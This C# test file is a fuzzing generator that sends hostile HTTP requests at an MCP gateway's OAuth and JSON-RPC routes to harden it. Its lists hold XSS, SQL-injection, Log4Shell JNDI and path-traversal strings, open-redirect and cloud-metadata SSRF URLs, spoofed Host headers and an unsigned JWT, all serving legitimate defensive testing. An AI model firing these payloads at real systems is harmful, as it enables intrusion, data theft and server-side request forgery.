using System.Globalization;
using System.Text;
using MasterMcp.Hosting;

namespace MasterMcp.Tests.Hardening;

/// <summary>Valid values the generator mixes in so hostile parts get past the first checks and reach the parsers behind them.</summary>
public sealed record FuzzTargets(string ClientId, string ClientSecret, string PreregisteredId, string PreregisteredSecret, string RedirectUri, string AccessToken, string SessionId);

/// <summary>
/// Generates hostile requests for every route of <see cref="GatewayRoutes.All"/>, deterministically from a seed and an
/// index: request <c>i</c> goes to route <c>i mod routes</c> and stresses input class <c>(i / routes) mod classes</c>, so
/// every route meets every class, and <see cref="Create"/> regenerates any single request for a repro.
/// </summary>
public sealed class HostileRequestGenerator(int seed, FuzzTargets targets, IReadOnlyList<GatewayRoute> routes, int maxBodyBytes)
{
    /// <summary>The input classes, each the main ingredient of a share of the requests.</summary>
    public static readonly string[] Classes =
    [
        "lone-surrogate", "control-chars", "over-long", "deep-nesting", "wrong-content-type", "truncated-json", "hostile-url",
        "bad-query", "bad-headers", "invalid-utf8", "bad-form", "json-rpc", "oauth-shaped",
    ];

    private static readonly string[] LoneSurrogates = ["\ud800", "a\udc00b", "\udbff\udbff", "x\ud83d", "\udfff"];

    private static readonly string[] Controls =
        ["\0", "\t", "\r", "\n", "\r\n", "\v", "\f", "\u001b[31m", "\u007f", "\u0085", "\u2028", "\u2029", "\u3000", "\u00a0", "\ufeff", "\u200b", "\u202e", "\b"];

    private static readonly string[] HostileUrls =
    [
        "//evil.example/x", "/\t/evil.example/x", "/\r/evil.example/x", "/\v/evil.example/x", "/\u3000/evil.example/x", "/\\evil.example", "\\\\evil.example",
        "/%09/evil.example/x", "/%2F/evil.example", "%2F%2Fevil.example", "https://evil.example/cb", "http://evil.example", "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "http://127.0.0.1:1/callback\t", "http://127.0.0.1:1/callback#frag",
        "http://[::1", "http://localhost:99999/", "https://user:pw@evil.example/", "cursor://x/\r\n", "https://127.0.0.1/client.json",
        "https://169.254.169.254/latest/meta-data/client.json", "https://evil.invalid/client.json", "https://evil.invalid/a/../client.json",
        "http://0x7f000001/", "https://ex\u0430mple.com/cb", "http://127.0.0.1:1/callback?x=\u0000", "ftp://evil.example/", "mcp://", "a:b",
    ];

    private static readonly string[] Injections =
    [
        "<script>alert(1)</script>", "\"'><img src=x onerror=alert(1)>", "' OR '1'='1", "${jndi:ldap://evil.example/a}", "{{7*7}}", "%s%n%x", "{0}",
        "../../../../etc/passwd", "h_", "/", "\\", "#", "?", "%", "%zz", "%ED%A0%80", "%00", "null", "true", "-1", "1e309", "NaN",
        "99999999999999999999999", "", " ", "mcp offline_access admin", "S256", "plain", "code", "token",
    ];

    private static readonly byte[][] InvalidUtf8 =
    [
        [0xFF], [0xC0, 0x80], [0xED, 0xA0, 0x80], [0xE3, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80], [0x80], [0xF4, 0x90, 0x80, 0x80], [0xFE, 0xFF],
    ];

    private static readonly string[] McpMethods =
    [
        "initialize", "ping", "tools/list", "tools/call", "resources/list", "resources/read", "resources/templates/list", "resources/subscribe",
        "resources/unsubscribe", "prompts/list", "prompts/get", "completion/complete", "logging/setLevel", "notifications/initialized",
        "notifications/cancelled", "notifications/progress", "notifications/roots/list_changed", "sampling/createMessage", "elicitation/create",
        "server/discover", "subscriptions/listen", "", "no/such_method", "tools/call\u0000", "rpc.discover",
    ];

    private static readonly string[] ContentTypes =
    [
        "text/plain", "application/xml", "multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary=x", "application/json; charset=utf-16",
        "application/x-www-form-urlencoded; charset=ibm037", "application/x-www-form-urlencoded; charset=utf-7", ";;;", "", "application/json, text/html", "*/*",
        "application/json; charset=\"", "application/x-www-form-urlencoded\u00ff", "image/png", "application/jsonx", "APPLICATION/JSON", "application/json;;;q=x",
    ];

    private static readonly string[] FormFields =
    [
        "grant_type", "code", "redirect_uri", "code_verifier", "client_id", "client_secret", "refresh_token", "token", "token_type_hint", "resource", "scope",
        "request", "csrf", "decision", "backend", "action",
    ];

    /// <summary>The request with this index.</summary>
    public HostileRequest Create(int index)
    {
        var random = new Random(unchecked((seed * 1_000_003) + index));
        var route = routes[index % routes.Count];
        var inputClass = Classes[index / routes.Count % Classes.Length];
        var method = random.Next(20) == 0 ? Pick(random, ["PUT", "PATCH", "OPTIONS", "HEAD", "DELETE", "TRACE"]) : Pick(random, route.Methods);
        var path = "/" + route.Template;
        if (inputClass == "hostile-url" && random.Next(3) == 0)
        {
            path = Pick(random, [path + "/", path + "%00", "/" + path, path.ToUpperInvariant(), path + "/..%2f..%2fhealth", path + ";x=y", path + "%2F", path + "/%2e%2e/", path + "%5C"]);
        }
        var request = new HostileRequest(index, route.Name, inputClass, method, path + Query(random, route, inputClass));
        AddHeaders(random, request, route, inputClass);
        if (method is "POST" or "PUT" or "PATCH" || random.Next(10) == 0)
        {
            AddBody(random, request, route, inputClass);
        }
        return request;
    }

    // ---- query strings ----

    private string Query(Random random, GatewayRoute route, string inputClass)
    {
        if (inputClass == "bad-query" && random.Next(3) == 0)
        {
            return Pick(random, ["?", "?&&&==", "?a=%", "?%%%", "?%zz=1", "?a[b]=c&a[]=d", "?=x", "?a=1&a=2&a=3", "??a=b", "?a=%ED%A0%80", "?%FF=%FE",
                "?" + new string('a', 3000) + "=1", "?a=" + string.Concat(Enumerable.Repeat("%00", 500)), "?access_token=x", "?return_url=/%09/evil.example/x",
                "?state=" + new string('s', 5000), "?client_id=" + targets.ClientId + "&client_id=" + targets.PreregisteredId, "?a=<\"|`^{}>"]);
        }
        var names = route.Name switch
        {
            "authorize" => new[] { "response_type", "client_id", "redirect_uri", "scope", "state", "code_challenge", "code_challenge_method", "resource" },
            "login-callback" => ["state", "code", "error", "error_description", "iss"],
            "login" => ["return_url"],
            "consent" => ["request"],
            "connect" => ["id"],
            _ => ["x", "access_token", "cursor", "return_url"],
        };
        var parts = new List<string>();
        foreach (var name in names)
        {
            if (random.Next(4) == 0)
            {
                continue;
            }
            var value = route.Name == "authorize" && random.Next(2) == 0 ? ValidAuthorizeValue(name) : Hostile(random, inputClass);
            var encoded = Encode(random, value, inputClass);
            // Kestrel answers 414 to request lines over 8 KiB before any gateway code runs; mostly stay under it.
            parts.Add(name + "=" + (encoded.Length > 6000 && random.Next(4) > 0 ? new string('q', 2049) : encoded));
        }
        if (inputClass == "bad-query")
        {
            parts.Add(Encode(random, Hostile(random, "control-chars"), inputClass) + "=" + Encode(random, Hostile(random, "hostile-url"), inputClass));
        }
        return parts.Count == 0 ? "" : "?" + string.Join('&', parts);
    }

    private string ValidAuthorizeValue(string name) => name switch
    {
        "response_type" => "code",
        "client_id" => targets.ClientId,
        "redirect_uri" => targets.RedirectUri,
        "scope" => "mcp",
        "code_challenge" => new string('A', 43),
        "code_challenge_method" => "S256",
        _ => "v",
    };

    // ---- headers ----

    private void AddHeaders(Random random, HostileRequest request, GatewayRoute route, string inputClass)
    {
        var authorization = random.Next(6) switch
        {
            0 or 1 => "Bearer " + targets.AccessToken,
            2 => "Basic " + Convert.ToBase64String(Encoding.UTF8.GetBytes(targets.ClientId + ":" + targets.ClientSecret)),
            3 => null,
            _ => Pick(random, [
                "Bearer " + Header(Hostile(random, inputClass)), "Bearer", "Bearer  ", "Basic", "Basic !!!notbase64", "Basic " + Convert.ToBase64String([0xFF, 0xFE, 0x3A, 0xED, 0xA0, 0x80]),
                "Basic " + Convert.ToBase64String(Encoding.UTF8.GetBytes("no-colon")), "Basic " + Convert.ToBase64String(Encoding.UTF8.GetBytes("%ED%A0%80:%")),
                "Basic " + Convert.ToBase64String(Encoding.UTF8.GetBytes(new string('a', 5000) + ":x")), "Digest x", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.",
                "Bearer " + targets.AccessToken[..^3] + "abc", "bearer " + targets.AccessToken + " extra", "Bearer " + new string('a', 8000)]),
        };
        if (authorization is not null)
        {
            request.Headers.Add(new("Authorization", authorization));
        }
        if (route == GatewayRoutes.Mcp || inputClass is "bad-headers" or "json-rpc")
        {
            request.Headers.Add(new("Accept", random.Next(5) == 0 ? Header(Pick(random, ["*/*", "text/html", "application/json", "text/event-stream", "", "application/json;q=x, text/event-stream;;"])) : "application/json, text/event-stream"));
            if (random.Next(3) > 0)
            {
                request.Headers.Add(new("Mcp-Session-Id", random.Next(2) == 0 ? targets.SessionId : Header(Hostile(random, inputClass))));
            }
            if (random.Next(3) > 0)
            {
                request.Headers.Add(new("MCP-Protocol-Version", random.Next(2) == 0 ? Pick(random, ["2025-06-18", "2025-11-25", "2026-07-28", "2025-03-26"]) : Header(Hostile(random, inputClass))));
            }
        }
        if (inputClass != "bad-headers")
        {
            return;
        }
        var extra = new (string Name, Func<string> Value)[]
        {
            ("Origin", () => Pick(random, ["null", "http://evil.example", "http://127.0.0.1:1", "file://", "http://[::1", Header(Hostile(random, "hostile-url"))])),
            ("Cookie", () => "mcpgw-session=" + Header(Hostile(random, "injection")) + "; mcpgw-binding=" + new string('b', 40) + Header(Pick(random, Controls))),
            ("Cookie", () => Header(Pick(random, ["=;=;=", "a", ";", "mcpgw-session=\"unterminated", "mcpgw-binding=" + new string('%', 64)]))),
            ("Last-Event-ID", () => Header(Hostile(random, "over-long"))),
            ("traceparent", () => Header(Pick(random, ["00-" + new string('0', 32) + "-" + new string('0', 16) + "-01", "ff-x-y-z", "00-abc", Hostile(random, "injection")]))),
            ("tracestate", () => Header(Hostile(random, "over-long"))),
            ("X-Forwarded-For", () => Header(Hostile(random, "injection"))),
            ("X-Forwarded-Host", () => Header(Hostile(random, "hostile-url"))),
            ("X-Forwarded-Proto", () => Header(Pick(random, ["javascript", "https, http", ""]))),
            ("Mcp-Method", () => Header(Pick(random, McpMethods))),
            ("Mcp-Name", () => Header(Hostile(random, "lone-surrogate"))),
            ("Range", () => "bytes=-1-2,5-"),
            ("If-None-Match", () => Header(Hostile(random, "control-chars"))),
            ("Accept-Language", () => Header(Hostile(random, "invalid-utf8"))),
            ("Host", () => Pick(random, ["evil.example", "127.0.0.1:1", "localhost", "[::1]:1"])),
            ("X-" + new string('h', 300), () => "x"),
        };
        for (var n = 1 + random.Next(4); n > 0; n--)
        {
            var (name, value) = Pick(random, extra);
            request.Headers.Add(new(name, value()));
        }
    }

    // Header values travel as Latin-1 bytes: characters beyond it go as their UTF-8 bytes (hostile on the wire), and CR,
    // LF and NUL are dropped because HttpClient refuses to send them at all.
    private static string Header(string value)
    {
        var text = new StringBuilder();
        foreach (var b in Wtf8(value))
        {
            if (b is not ((byte)'\r' or (byte)'\n' or 0))
            {
                text.Append((char)b);
            }
        }
        return text.ToString();
    }

    // ---- bodies ----

    private void AddBody(Random random, HostileRequest request, GatewayRoute route, string inputClass)
    {
        var formRoute = route.Name is "token" or "revoke" or "consent" or "connections";
        var json = formRoute ? random.Next(4) == 0 : random.Next(4) > 0;
        request.ContentType = json ? "application/json" : "application/x-www-form-urlencoded";
        request.Body = inputClass switch
        {
            "deep-nesting" => DeepNesting(random),
            "truncated-json" => Truncate(random, JsonBody(random, route, "json-rpc")),
            "wrong-content-type" => random.Next(2) == 0 ? JsonBody(random, route, "oauth-shaped") : FormBody(random, "oauth-shaped"),
            "bad-form" => FormBody(random, inputClass),
            "over-long" when random.Next(8) == 0 => Encoding.ASCII.GetBytes("{\"pad\":\"" + new string('x', maxBodyBytes + 1024) + "\"}"),
            _ => json ? JsonBody(random, route, inputClass) : FormBody(random, inputClass),
        };
        if (inputClass == "wrong-content-type")
        {
            request.ContentType = Pick(random, ContentTypes);
            if (random.Next(6) == 0)
            {
                request.ContentType = null;
            }
        }
        if (inputClass == "invalid-utf8" && request.Body.Length > 0)
        {
            request.Body = Splice(random, request.Body, Pick(random, InvalidUtf8));
        }
        if (inputClass == "over-long" && request.Body.Length > maxBodyBytes)
        {
            request.ExpectContinue = true;
        }
        request.Chunked = random.Next(8) == 0 && !request.ExpectContinue;
        if (random.Next(25) == 0)
        {
            request.Body = Pick(random, new byte[][] { [], [0xEF, 0xBB, 0xBF], Encoding.ASCII.GetBytes("null"), Encoding.ASCII.GetBytes("[]") });
        }
    }

    private byte[] JsonBody(Random random, GatewayRoute route, string inputClass)
    {
        var rpc = route == GatewayRoutes.Mcp ? random.Next(5) > 0 : random.Next(5) == 0;
        var value = rpc ? JsonRpc(random, inputClass) : Registration(random, inputClass);
        var text = random.Next(6) == 0 ? Json.Write(new List<object?> { value, JsonRpc(random, inputClass) }) : Json.Write(value);
        if (random.Next(12) == 0)
        {
            // Duplicate keys, comments, trailing garbage, NaN: what lenient parsers accept and strict ones refuse.
            text = Pick(random, ["{\"a\":1,\"a\":2," + text[1..], "/* c */" + text, text + "garbage", text.Replace(":1", ":NaN", StringComparison.Ordinal), text + "," + text, "\ufeff" + text]);
        }
        // Lone surrogates as raw (WTF-8) bytes instead of \u escapes, so the bytes are invalid UTF-8.
        return inputClass == "lone-surrogate" && random.Next(3) == 0 ? Wtf8(text.Replace("\\ud800", "\ud800", StringComparison.Ordinal)) : Encoding.UTF8.GetBytes(text);
    }

    private Dictionary<string, object?> Registration(Random random, string inputClass)
    {
        object? Field(object? valid) => random.Next(3) == 0 ? valid : HostileValue(random, inputClass);
        var registration = new Dictionary<string, object?>
        {
            ["redirect_uris"] = random.Next(3) == 0 ? new List<object?> { targets.RedirectUri } : new List<object?> { Hostile(random, random.Next(2) == 0 ? "hostile-url" : inputClass), Field(targets.RedirectUri) },
            ["token_endpoint_auth_method"] = Field(Pick(random, ["none", "client_secret_post", "client_secret_basic"])),
            ["grant_types"] = Field(new List<object?> { "authorization_code", "refresh_token" }),
            ["response_types"] = Field(new List<object?> { "code" }),
            ["client_name"] = Field("Fuzz Client"),
            ["client_uri"] = Field("https://fuzz.example"),
            ["scope"] = Field("mcp"),
        };
        if (random.Next(3) == 0)
        {
            registration[Hostile(random, inputClass)] = HostileValue(random, inputClass);
        }
        return registration;
    }

    private Dictionary<string, object?> JsonRpc(Random random, string inputClass)
    {
        var method = random.Next(3) == 0 ? Hostile(random, inputClass) : Pick(random, McpMethods);
        if (method == "initialize" && random.Next(4) > 0)
        {
            // Every accepted initialize opens a session with its backend clients: keep them rare.
            method = "ping";
        }
        var parameters = method switch
        {
            "initialize" => new Dictionary<string, object?>
            {
                ["protocolVersion"] = random.Next(2) == 0 ? "2025-06-18" : HostileValue(random, inputClass),
                ["capabilities"] = random.Next(2) == 0 ? new Dictionary<string, object?>() : HostileValue(random, inputClass),
                ["clientInfo"] = new Dictionary<string, object?> { ["name"] = Hostile(random, inputClass), ["version"] = HostileValue(random, inputClass) },
            },
            "tools/call" => new Dictionary<string, object?>
            {
                ["name"] = random.Next(2) == 0 ? Pick(random, ["sample__echo", "sample__add"]) : Hostile(random, inputClass),
                ["arguments"] = new Dictionary<string, object?> { ["text"] = HostileValue(random, inputClass), ["a"] = HostileValue(random, inputClass), ["b"] = 2 },
                ["_meta"] = new Dictionary<string, object?> { ["progressToken"] = HostileValue(random, inputClass) },
            },
            "resources/read" or "resources/subscribe" or "resources/unsubscribe" => new Dictionary<string, object?> { ["uri"] = Hostile(random, random.Next(2) == 0 ? "hostile-url" : inputClass) },
            "prompts/get" => new Dictionary<string, object?> { ["name"] = Hostile(random, inputClass), ["arguments"] = new Dictionary<string, object?> { [Hostile(random, inputClass)] = HostileValue(random, inputClass) } },
            "completion/complete" => new Dictionary<string, object?>
            {
                ["ref"] = new Dictionary<string, object?> { ["type"] = Pick(random, ["ref/prompt", "ref/resource", Hostile(random, inputClass)]), ["name"] = Hostile(random, inputClass), ["uri"] = Hostile(random, "hostile-url") },
                ["argument"] = new Dictionary<string, object?> { ["name"] = Hostile(random, inputClass), ["value"] = HostileValue(random, inputClass) },
            },
            "logging/setLevel" => new Dictionary<string, object?> { ["level"] = HostileValue(random, inputClass) },
            "notifications/cancelled" => new Dictionary<string, object?> { ["requestId"] = HostileValue(random, inputClass), ["reason"] = Hostile(random, inputClass) },
            _ => random.Next(2) == 0 ? new Dictionary<string, object?>() : new Dictionary<string, object?> { [Hostile(random, inputClass)] = HostileValue(random, inputClass), ["cursor"] = Hostile(random, inputClass) },
        };
        var message = new Dictionary<string, object?> { ["jsonrpc"] = random.Next(10) == 0 ? HostileValue(random, inputClass) : "2.0", ["method"] = method, ["params"] = parameters };
        if (!method.StartsWith("notifications/", StringComparison.Ordinal) || random.Next(4) == 0)
        {
            message["id"] = random.Next(3) > 0 ? random.Next(1, 1_000_000) : HostileValue(random, inputClass);
        }
        if (random.Next(15) == 0)
        {
            message.Remove("jsonrpc");
        }
        return message;
    }

    private byte[] FormBody(Random random, string inputClass)
    {
        if (inputClass == "bad-form" && random.Next(3) == 0)
        {
            return random.Next(6) switch
            {
                0 => Encoding.ASCII.GetBytes(new string('k', 2049 + random.Next(3000)) + "=v&client_id=" + targets.ClientId),
                1 => Encoding.ASCII.GetBytes(string.Join('&', Enumerable.Range(0, 1100).Select(i => "f" + i.ToString(CultureInfo.InvariantCulture) + "=1"))),
                2 => Encoding.ASCII.GetBytes(Pick(random, ["a=%", "=&=&=", "&&&", "a=b=c", "%zz=%zz", "a=%ED%A0%80", "%FF%FE=%C0%80", "a", "+=+"])),
                3 => [.. Encoding.ASCII.GetBytes("grant_type="), .. Pick(random, InvalidUtf8), .. Encoding.ASCII.GetBytes("&client_id=x")],
                4 => Encoding.ASCII.GetBytes("--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--x--"),
                _ => Encoding.ASCII.GetBytes("client_id=" + targets.ClientId + "&token=" + new string('t', 5_000_000 / 100)),
            };
        }
        var parts = new List<string>();
        var credentials = random.Next(3);
        if (credentials == 0)
        {
            parts.Add("client_id=" + targets.ClientId);
            parts.Add("client_secret=" + targets.ClientSecret);
        }
        else if (credentials == 1)
        {
            parts.Add("client_id=" + targets.PreregisteredId);
            parts.Add("client_secret=" + targets.PreregisteredSecret);
        }
        foreach (var field in FormFields)
        {
            if (random.Next(3) == 0)
            {
                var value = field == "grant_type" && random.Next(2) == 0 ? Pick(random, ["authorization_code", "refresh_token"]) : Hostile(random, inputClass);
                parts.Add(field + "=" + Encode(random, value, inputClass));
            }
        }
        if (random.Next(3) == 0)
        {
            parts.Add(Encode(random, Hostile(random, inputClass), inputClass) + "=" + Encode(random, Hostile(random, inputClass), inputClass));
        }
        return Encoding.ASCII.GetBytes(string.Join('&', parts));
    }

    private static byte[] DeepNesting(Random random)
    {
        var depth = Pick(random, [65, 200, 1_000, 20_000, 100_000]);
        var text = random.Next(3) switch
        {
            0 => new string('[', depth) + new string(']', depth),
            1 => string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth),
            _ => "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{\"name\":\"sample__echo\",\"arguments\":{\"text\":" + new string('[', depth) + new string(']', depth) + "}}}",
        };
        return Encoding.ASCII.GetBytes(random.Next(4) == 0 ? text[..(text.Length / 2)] : text);
    }

    private static byte[] Truncate(Random random, byte[] body) => body.Length < 2 ? body : body[..random.Next(1, body.Length)];

    private static byte[] Splice(Random random, byte[] body, byte[] insert)
    {
        var at = random.Next(body.Length + 1);
        return [.. body[..at], .. insert, .. body[at..]];
    }

    // ---- values ----

    /// <summary>A hostile string of the class (other classes' strings now and then).</summary>
    private string Hostile(Random random, string inputClass)
    {
        var kind = random.Next(8) == 0 ? Pick(random, Classes) : inputClass;
        var core = kind switch
        {
            "lone-surrogate" => Pick(random, LoneSurrogates),
            "control-chars" => Pick(random, Controls),
            "over-long" => Pick(random, [new string('k', 2049), new string('a', 40_000), string.Concat(Enumerable.Repeat("\u00e9", 20_000)), new string('%', 5000), string.Concat(Enumerable.Repeat("\U0001F600", 3000))]),
            "hostile-url" => Pick(random, HostileUrls),
            "invalid-utf8" => Pick(random, LoneSurrogates) + Pick(random, Controls),
            _ => Pick(random, Injections),
        };
        return random.Next(3) switch
        {
            0 => core,
            1 => Pick(random, [targets.ClientId, targets.RedirectUri, targets.SessionId, "mcp", "/connections"]) + core,
            _ => "v" + core + "v",
        };
    }

    /// <summary>A hostile JSON value: a string, or a value of the wrong type.</summary>
    private object? HostileValue(Random random, string inputClass) => random.Next(6) switch
    {
        0 => null,
        1 => Pick<object>(random, [0, -1, long.MaxValue, 1.5e308, true, false]),
        2 => new List<object?> { Hostile(random, inputClass), 1, null },
        3 => new Dictionary<string, object?> { [Hostile(random, inputClass)] = Hostile(random, inputClass) },
        _ => Hostile(random, inputClass),
    };

    /// <summary>Percent-encodes for a query or form: the string's WTF-8 bytes (lone surrogates as ED xx xx), with invalid bytes mixed in for that class.</summary>
    private static string Encode(Random random, string value, string inputClass)
    {
        var bytes = Wtf8(value);
        if (inputClass == "invalid-utf8" && random.Next(2) == 0)
        {
            bytes = Splice(random, bytes, Pick(random, InvalidUtf8));
        }
        var text = new StringBuilder();
        foreach (var b in bytes)
        {
            if (char.IsAsciiLetterOrDigit((char)b) || b is (byte)'-' or (byte)'_' or (byte)'.' or (byte)'~' or (byte)'/')
            {
                text.Append((char)b);
            }
            else
            {
                text.Append(CultureInfo.InvariantCulture, $"%{b:X2}");
            }
        }
        return text.ToString();
    }

    /// <summary>UTF-8, except that lone surrogates are encoded like any other code point (what a careless encoder sends).</summary>
    private static byte[] Wtf8(string value)
    {
        var bytes = new List<byte>(value.Length);
        for (var i = 0; i < value.Length; i++)
        {
            int c = value[i];
            if (char.IsHighSurrogate(value[i]) && i + 1 < value.Length && char.IsLowSurrogate(value[i + 1]))
            {
                c = char.ConvertToUtf32(value[i], value[i + 1]);
                i++;
            }
            if (c < 0x80)
            {
                bytes.Add((byte)c);
            }
            else if (c < 0x800)
            {
                bytes.AddRange([(byte)(0xC0 | (c >> 6)), (byte)(0x80 | (c & 0x3F))]);
            }
            else if (c < 0x10000)
            {
                bytes.AddRange([(byte)(0xE0 | (c >> 12)), (byte)(0x80 | ((c >> 6) & 0x3F)), (byte)(0x80 | (c & 0x3F))]);
            }
            else
            {
                bytes.AddRange([(byte)(0xF0 | (c >> 18)), (byte)(0x80 | ((c >> 12) & 0x3F)), (byte)(0x80 | ((c >> 6) & 0x3F)), (byte)(0x80 | (c & 0x3F))]);
            }
        }
        return [.. bytes];
    }

    private static T Pick<T>(Random random, IReadOnlyList<T> items) => items[random.Next(items.Count)];

    /// <summary>A JSON writer that escapes every non-ASCII character as \uXXXX, so lone surrogates become the escapes that trip strict parsers.</summary>
    private static class Json
    {
        public static string Write(object? value)
        {
            var text = new StringBuilder();
            Append(text, value);
            return text.ToString();
        }

        private static void Append(StringBuilder text, object? value)
        {
            switch (value)
            {
                case null:
                    text.Append("null");
                    break;
                case string s:
                    text.Append('"');
                    foreach (var c in s)
                    {
                        if (c is '"' or '\\')
                        {
                            text.Append('\\').Append(c);
                        }
                        else if (c is < ' ' or > '~')
                        {
                            text.Append(CultureInfo.InvariantCulture, $"\\u{(int)c:x4}");
                        }
                        else
                        {
                            text.Append(c);
                        }
                    }
                    text.Append('"');
                    break;
                case bool b:
                    text.Append(b ? "true" : "false");
                    break;
                case int or long or double:
                    text.Append(Convert.ToString(value, CultureInfo.InvariantCulture));
                    break;
                case Dictionary<string, object?> map:
                    text.Append('{');
                    var first = true;
                    foreach (var (key, item) in map)
                    {
                        text.Append(first ? "" : ",");
                        first = false;
                        Append(text, key);
                        text.Append(':');
                        Append(text, item);
                    }
                    text.Append('}');
                    break;
                case List<object?> list:
                    text.Append('[');
                    for (var i = 0; i < list.Count; i++)
                    {
                        text.Append(i == 0 ? "" : ",");
                        Append(text, list[i]);
                    }
                    text.Append(']');
                    break;
                default:
                    throw new ArgumentException("unsupported JSON value " + value.GetType(), nameof(value));
            }
        }
    }
}
